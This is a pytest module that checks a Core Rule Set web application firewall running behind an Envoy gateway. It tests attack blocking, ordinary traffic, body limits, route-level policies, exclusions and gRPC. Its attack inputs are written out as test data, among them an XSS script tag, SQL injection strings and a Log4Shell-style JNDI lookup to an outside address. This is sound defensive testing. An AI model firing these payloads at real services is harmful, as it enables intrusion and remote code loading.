"""The Core Rule Set behind a real Envoy: attacks of each class, ordinary traffic, routes of their own, and where nobody can look."""

from __future__ import annotations

import asyncio
import http.client
import json
import queue
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import grpc
import pytest

from support.attacks import ATTACKS, BROWSER, JSON, ORDINARY, Sent, send
from support.backend import Backend, backend
from support.carried import at
from support.compiled import gateway, inputs, sidecar, warnings
from support.edge import edge, policy
from support.grpc_echo import serve
from support.led_mesh import LedMesh, led_mesh
from support.loopback import called_from_here
from support.running import free_port
from tulle.compile import build, view
from tulle.compile.explain import Request, explain_view
from tulle.model.proxy import InboundPort
from tulle.model.service import Protocol
from tulle.server.firewall.engine import Engine, missing
from tulle.server.firewall.service import FirewallService
from tulle.server.firewall.words import NoFirewallError

pytestmark = [pytest.mark.envoy, pytest.mark.skipif(bool(missing()), reason=missing())]

REFUSED = (400, 403)
"""By the proxy's own parser, which some never get beyond, and by the firewall."""
UNKNOWN = {"/find?q=1%252527%2520OR%25201%25253D1", "name=ann&q=1%252527%2520OR%25201%25253D1"}
"""Attacks that the set's first level does not know: what is escaped three times, and a dozen ranges of one file."""
MISTAKEN = "5 < 6 and 7 > 3"
"""The ordinary text that it takes for an attack."""
SCRIPT = "/find?q=%3Cscript%3Ealert(1)%3C/script%3E"


class Walled:
    """A gateway with firewalls, and a server behind it."""

    def __init__(self, port: int, led: LedMesh, service: FirewallService, far: Backend) -> None:
        self.port, self.led, self.service, self.far = port, led, service, far

    async def status(self, sent: Sent | str) -> int:
        return await asyncio.to_thread(send, self.port, Sent(path=sent) if isinstance(sent, str) else sent)

    async def statuses(self, *sent: Sent | str) -> list[int]:
        return [await self.status(one) for one in sent]


@asynccontextmanager
async def walled(*documents: str, rules: str = "", service: FirewallService | None = None, asked: bool = True) -> AsyncIterator[Walled]:
    """`asked`: whether somebody answers the proxy."""
    port, service = free_port(), service or FirewallService()
    with backend("far") as far:
        text = edge(port, *documents, rules=rules)
        beside = (service.handler(),) if asked else ()
        async with led_mesh(gateway(), text, at("far", 80, far.port, id="far"), beside=beside) as led:
            assert led.rejections == []
            service.know(led.built.mesh.structure.rules.dressing.walls.every)
            yield Walled(port, led, service, far)


def test_attacks_are_refused() -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", "")) as wall:
            passed = [one for every in ATTACKS.values() for one in every if await wall.status(one) not in REFUSED]
            others = [one for one in passed if not ({one.path, one.body} & UNKNOWN or "%2527" in one.body or "range" in one.headers)]
            assert others == []
            assert len(wall.far.seen) == len(passed) <= 4, "none of the others got there"
            assert sum(map(len, ATTACKS.values())) >= 300

    asyncio.run(whole())


def test_ordinary_requests_go_on() -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", "")) as wall:
            held = [one for one in ORDINARY if await wall.status(one) in REFUSED]
            assert [one for one in held if not {quote(MISTAKEN, safe="").replace("%20", "+"), MISTAKEN} & set(texts(one))] == []
            assert len(held) <= 3
            assert len(ORDINARY) >= 100
            clean = wall.service.tally.requests["istio-system/edge", "clean"]
            assert clean >= len(ORDINARY) - len(held) - 3, "hardly any finds something that does not count"

    asyncio.run(whole())


def texts(sent: Sent) -> list[str]:
    return [sent.path.partition("q=")[2], sent.body.partition("q=")[2], json.loads(sent.body).get("q", "") if sent.type == JSON else ""]


def test_detecting_and_long_bodies() -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", "mode: DETECT, maxBodyBytes: 500")) as wall:
            assert await wall.status(SCRIPT) == 200
            assert wall.service.tally.requests == {("istio-system/edge", "found"): 1}
            assert wall.service.tally.classes == {("istio-system/edge", "xss", "found"): 1}
            (found,) = wall.service.tally.taken()
            assert (found.severity, found.path) == ("critical", "/find")
            assert found.client in called_from_here()
            assert "941100" in found.rules
            assert await wall.status(Sent(path="/", body="a" * 501)) == 413
            assert await wall.status(Sent(path="/", body="a=" + "b" * 498)) == 200
            assert await asyncio.to_thread(pieces, wall.port, [b"a" * 300, b"b" * 300]) == 413, "without a length, too"

    asyncio.run(whole())


def pieces(port: int, body: list[bytes]) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        headers = {**BROWSER, "content-type": "application/x-www-form-urlencoded"}
        with suppress(BrokenPipeError, ConnectionResetError):  # it may be refused before all is sent
            connection.request("POST", "/", body=iter(body), headers=headers, encode_chunked=True)
        return connection.getresponse().status
    finally:
        connection.close()


@pytest.mark.parametrize(("most", "long"), [(3_000_000, 3_000_001), (2000, 2001)])
def test_bodies_longer_than_proxies_hold_otherwise(most: int, long: int) -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", f"maxBodyBytes: {most}, excludedRules: [920420]")) as wall:
            body = {"type": "text/plain"}
            assert await wall.statuses(Sent(path="/", body="a" * most, **body), Sent(path="/", body="a" * long, **body)) == [200, 413]  # type: ignore[arg-type]

    asyncio.run(whole())


def test_long_bodies_that_pass() -> None:
    """Their headers are looked at, and shorter ones are."""

    async def whole() -> None:
        async with walled(policy("Firewall", "maxBodyBytes: 100, longBodies: PASS")) as wall:
            attack = "q=%3Cscript%3Ealert(1)%3C/script%3E"
            document = Sent(path="/", type=JSON, body=json.dumps({"a": "b" * 2_000_000}))
            short, long = Sent(path="/", body=attack), Sent(path="/", body=f"{attack}&z={'a' * 2_000_000}")
            assert await wall.statuses(short, long, document, replace(long, path=SCRIPT)) == [403, 200, 200, 403]
            assert len(wall.far.seen) == 2

    asyncio.run(whole())


HANDED = "{kind: VirtualService, group: networking.istio.io, name: edge, sectionName: guarded}"
RULES = "{name: guarded, match: [{uri: {prefix: /guarded}}], route: [{destination: {host: far.default.svc.cluster.local}}]}, "
RULES += "{route: [{destination: {host: far.default.svc.cluster.local}}]}"


def test_one_route_of_a_virtual_service() -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", "maxBodyBytes: 2000000, required: true", target=HANDED), rules=RULES) as wall:
            attack = SCRIPT.removeprefix("/find")
            assert await wall.statuses("/guarded" + attack, "/guarded?q=shoes", "/other" + attack) == [403, 200, 200]
            upload = Sent(path="/guarded", type="multipart/form-data; boundary=here", body=form("a" * 1_500_000))
            assert await wall.status(upload) == 200
            assert wall.service.tally.requests == {("istio-system/edge", "refused"): 1, ("istio-system/edge", "clean"): 2}
            seen = view(wall.led.built.mesh, gateway())
            told = [step.rule for step in explain_view(seen, gateway(), Request(url=f"http://a:{wall.port}/guarded/x")).steps]
            assert told[-1] == "Firewall/edge"
            other = [step.rule for step in explain_view(seen, gateway(), Request(url=f"http://a:{wall.port}/other")).steps]
            assert "Firewall/edge" not in other

    asyncio.run(whole())


def form(content: str) -> str:
    return (
        f'--here\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n{content}\r\n--here--\r\n'
    )


HTTP_ROUTE = """
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {{name: front, namespace: istio-system}}
spec: {{gatewayClassName: tulle, listeners: [{{name: http, port: {port}, protocol: HTTP, allowedRoutes: {{namespaces: {{from: All}}}}}}]}}
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {{name: shop, namespace: default}}
spec:
  parentRefs: [{{name: front, namespace: istio-system}}]
  rules:
  - {{name: guarded, matches: [{{path: {{type: PathPrefix, value: /guarded}}}}], backendRefs: [{{name: far, port: 80}}]}}
  - {{backendRefs: [{{name: far, port: 80}}]}}
---
apiVersion: tulle.dev/v1
kind: Firewall
metadata: {{name: shop, namespace: default}}
spec: {{targetRefs: [{{group: gateway.networking.k8s.io, kind: HTTPRoute, name: shop{section}}}]}}
---
apiVersion: tulle.dev/v1
kind: Firewall
metadata: {{name: elsewhere, namespace: istio-system}}
spec: {{targetRefs: [{{group: gateway.networking.k8s.io, kind: HTTPRoute, name: shop}}]}}
"""


@pytest.mark.parametrize(("section", "other"), [(", sectionName: guarded", 200), ("", 403)])
def test_one_rule_of_an_http_route_or_all(section: str, other: int) -> None:
    async def whole() -> None:
        port, service = free_port(), FirewallService()
        node = replace(gateway(), bind="127.0.0.1")
        with backend("far") as far:
            text = HTTP_ROUTE.format(port=port, section=section)
            async with led_mesh(node, text, at("far", 80, far.port, id="far"), beside=(service.handler(),)) as led:
                assert led.rejections == []
                service.know(led.built.mesh.structure.rules.dressing.walls.every)
                paths = ("/guarded" + SCRIPT, "/guarded", SCRIPT)
                assert [await asyncio.to_thread(send, port, Sent(path=path)) for path in paths] == [403, 200, other]
                (told,) = warnings(led.built, "Firewall/elsewhere")
                assert "not in force: there is no HTTPRoute istio-system/shop" in told

    asyncio.run(whole())


def test_a_route_of_its_own_behind_the_gateway_of_all() -> None:
    """They add up: what either refuses is refused."""
    own = policy("Firewall", "paranoiaLevel: 2", name="own", target=HANDED)
    lax = policy("Firewall", "exclusions: [{tags: [attack-xss]}]")

    async def whole() -> None:
        async with walled(lax, own, rules=RULES) as wall:
            attack = SCRIPT.removeprefix("/find")
            assert await wall.statuses("/guarded" + attack, "/other" + attack) == [403, 200]
            requests = wall.service.tally.requests
            assert requests["istio-system/own", "refused"] == 1
            assert requests["istio-system/edge", "clean"] == 2

    asyncio.run(whole())


EXCLUSIONS = (
    "exclusions: ["
    "{paths: [/static/*]}, "
    "{parameters: [comment], tags: [attack-xss]}, "
    "{paths: [/search], rules: [942100]}, "
    "{paths: ['*.raw'], headers: [x-note], cookies: [note]}]"
)


def test_exclusions() -> None:
    script, injection = "<script>alert(1)</script>", "1' OR '1'='1"
    wanted = {
        f"/static/a?q={quote(script)}": 200,
        f"/static/..%2fadmin?q={quote(script)}": 403,
        f"/?comment={quote(script)}": 200,
        f"/?comments={quote(script)}": 403,
        f"/?comment={quote(injection)}": 403,
        f"/search?q={quote(injection)}": 200,
        f"/searches?q={quote(injection)}": 403,
    }

    async def whole() -> None:
        async with walled(policy("Firewall", EXCLUSIONS)) as wall:
            assert {path: await wall.status(path) for path in wanted} == wanted
            body = json.dumps({"comment": script})
            assert await wall.status(Sent(path="/api", type=JSON, body=body)) == 200
            noted = {"x-note": script, "cookie": f"note={script}"}
            paths = ("/a.raw", "/a.rawer", "/admin;a.raw", "/admin%3ba.raw", "/admin%23a.raw")
            assert await wall.statuses(*(Sent(path=path, headers=noted) for path in paths)) == [200, 403, 403, 403, 403]

    asyncio.run(whole())


def test_own_rules_thresholds_and_content_types() -> None:
    own = 'rules: \'SecRule REQUEST_HEADERS:X-Team "@streq red" "id:7,phase:1,deny,status:403,log,msg:Red"\''

    async def whole() -> None:
        async with walled(policy("Firewall", f"{own}, anomalyThresholds: {{requests: 100}}, contentTypes: [text/plain]")) as wall:
            plain = Sent(path="/", type="text/plain", body="hello")
            red = Sent(path="/", headers={"x-team": "red"})
            assert await wall.statuses(SCRIPT, plain, red, "/") == [200, 200, 403, 200]
            assert [found.rules for found in wall.service.tally.taken() if found.outcome == "refused"] == ["7"]

    asyncio.run(whole())


def test_answers_that_tell_too_much() -> None:
    leak = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"

    async def whole() -> None:
        async with walled(policy("Firewall", "answers: {}")) as wall:
            wall.far.answer = ("text/html", leak.encode())
            assert await wall.status("/") == 403
            assert wall.service.tally.classes == {("istio-system/edge", "disclosure", "refused"): 1}
            wall.far.answer = ("text/html", (leak + " " * 2_000_000).encode())
            assert await wall.status("/") == 200, "what is too long is not looked at"
            wall.far.answer = ("image/png", leak.encode())
            assert await wall.status("/") == 200, "what is no text is not looked at"

    asyncio.run(whole())


def test_an_upgrade_that_brings_a_body_is_refused() -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", "")) as wall:
            upgrade = {"upgrade": "websocket", "connection": "upgrade"}
            assert await wall.status(Sent(path="/chat", headers=upgrade)) == 101
            assert await wall.status(Sent(path="/form", body="q=%3Cscript%3Ealert(1)%3C/script%3E", headers=upgrade)) in REFUSED
            assert [one["path"] for one in wall.far.seen] == ["/chat"]

    asyncio.run(whole())


class Nothing(Engine):
    """As on a machine without the library."""

    def judge(self, *_: Any) -> Any:
        raise NoFirewallError("it is not here")


@pytest.mark.parametrize(("required", "status"), [("true", 503), ("false", 200)])
def test_where_the_library_is_missing(required: str, status: int) -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", f"required: {required}"), service=FirewallService(Nothing())) as wall:
            assert await wall.statuses("/", Sent(path="/", body="a=b")) == [status, status]
            assert len(wall.far.seen) == (0 if status == 503 else 2)
            assert wall.service.tally.requests == {("istio-system/edge", "unchecked"): 2}

    asyncio.run(whole())


@pytest.mark.parametrize("target", ["{kind: Gateway, group: networking.istio.io, name: edge}", HANDED])
@pytest.mark.parametrize(("required", "status"), [("true", 503), ("false", 200)])
def test_where_nobody_answers(required: str, status: int, target: str) -> None:
    async def whole() -> None:
        async with walled(policy("Firewall", f"required: {required}", target=target), rules=RULES, asked=False) as wall:
            assert await wall.status("/guarded") == status

    asyncio.run(whole())


def test_what_explain_says() -> None:
    seen = view(build(inputs(edge(8080, policy("Firewall", "paranoiaLevel: 2")))).mesh, gateway())
    told = [step.why for step in explain_view(seen, gateway(), Request(url="http://a:8080/")).steps if step.rule == "Firewall/edge"]
    assert told == ["the Core Rule Set, at level 2, looks at it and may refuse it"]


def test_what_apply_says_where_the_library_is_missing() -> None:
    for required, then in (("true", "requests are refused with 503"), ("false", "requests go on unchecked")):
        given = inputs(edge(8080, policy("Firewall", f"required: {required}")))
        (said,) = warnings(build(replace(given, no_firewall="it is not here")), "Firewall/edge")
        assert f"not in force, {then}: it is not here" in said
        (said,) = warnings(build(replace(given, broken_firewalls={"istio-system/edge": "line 3"})), "Firewall/edge")
        assert f"not in force, {then}: line 3" in said


GRPC = """
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {{name: front, namespace: default}}
spec: {{gatewayClassName: tulle, listeners: [{{name: http, port: {port}, protocol: HTTP}}]}}
---
apiVersion: gateway.networking.k8s.io/v1
kind: GRPCRoute
metadata: {{name: echo, namespace: default}}
spec: {{parentRefs: [{{name: front}}], rules: [{{backendRefs: [{{name: echo, port: 80}}]}}]}}
---
apiVersion: tulle.dev/v1
kind: Firewall
metadata: {{name: echo, namespace: default}}
spec: {{targetRefs: [{{group: gateway.networking.k8s.io, kind: GRPCRoute, name: echo}}], required: true}}
"""


def test_calls_of_grpc_go_on_as_they_stream() -> None:
    """Their headers are looked at."""

    def call(port: int) -> None:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            say, talk = channel.unary_unary("/test.Echo/Say"), channel.stream_stream("/test.Echo/Talk")
            assert say(b"hello", timeout=60) == b"echo:hello"
            asked: queue.Queue[bytes | None] = queue.Queue()
            answers = talk(iter(asked.get, None), timeout=60)
            for word in (b"one", b"two"):
                asked.put(word)
                assert next(answers) == b"echo:" + word, "each is answered before the next is sent"
            asked.put(None)
            with pytest.raises(grpc.RpcError) as refused:
                say(b"hello", timeout=60, metadata=(("x-note", "${jndi:ldap://203.0.113.7/a}"),))
            assert refused.value.code() is grpc.StatusCode.PERMISSION_DENIED

    async def whole() -> None:
        port, service = free_port(), FirewallService()
        server, echo = serve("echo", 0)
        try:
            mine = at("echo", 80, echo, id="echo", protocol=Protocol.GRPC)
            text = GRPC.format(port=port)
            async with led_mesh(replace(gateway(), bind="127.0.0.1"), text, mine, beside=(service.handler(),)) as led:
                assert led.rejections == []
                service.know(led.built.mesh.structure.rules.dressing.walls.every)
                await asyncio.to_thread(call, port)
                assert service.tally.requests["default/echo", "refused"] == 1
        finally:
            server.stop(0)

    asyncio.run(whole())


def test_beside_a_workload() -> None:
    port, service = free_port(), FirewallService()
    plain = "apiVersion: security.istio.io/v1\nkind: PeerAuthentication\nmetadata: {name: plain}\nspec: {mtls: {mode: DISABLE}}"
    wall = "apiVersion: tulle.dev/v1\nkind: Firewall\nmetadata: {name: far}\nspec: {selector: {matchLabels: {app: far}}}"

    async def whole() -> None:
        with backend("far") as far:
            node = sidecar(app="far", inbound=(InboundPort(service_port=80, listen=port, target=far.port),))
            async with led_mesh(node, f"{plain}\n---\n{wall}", beside=(service.handler(),)) as led:
                service.know(led.built.mesh.structure.rules.dressing.walls.every)
                assert [await asyncio.to_thread(send, port, Sent(path=path)) for path in (SCRIPT, "/")] == [403, 200]

    asyncio.run(whole())
